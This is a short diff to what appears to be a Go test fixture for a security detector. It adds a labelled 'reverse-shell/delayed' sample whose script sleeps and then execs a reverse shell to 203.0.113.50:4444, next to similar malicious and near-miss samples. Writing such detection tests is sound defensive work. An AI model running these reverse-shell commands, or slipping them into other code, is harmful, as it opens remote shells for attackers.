@@ -8,6 +8,7 @@ func reverseShell() []Sample {
 		shows("reverse-shell/exec", acts("reverse-shell", "203.0.113.50:4444"), malicious, "203.0.113.50:4444", "/bin/sh").
 			but("direct-ip-egress", "203.0.113.50:4444"),
 		shows("reverse-shell/child", acts("reverse-shell-child", "[2001:db8::51]:443"), malicious, "[2001:db8::51]:443"),
+		shows("reverse-shell/delayed", script("sleep 1\necho ready\nexec /bin/actor reverse-shell 203.0.113.50:4444\n"), malicious, "203.0.113.50:4444", "/bin/sh"), // scenario A6
 		nearly("reverse-shell/accepted-connection", handler),
 		nearly("reverse-shell/loopback", acts("loopback-shell")),
 		nearly("reverse-shell/no-shell", acts("upload-by-cat", "logs.example.test:5140")),
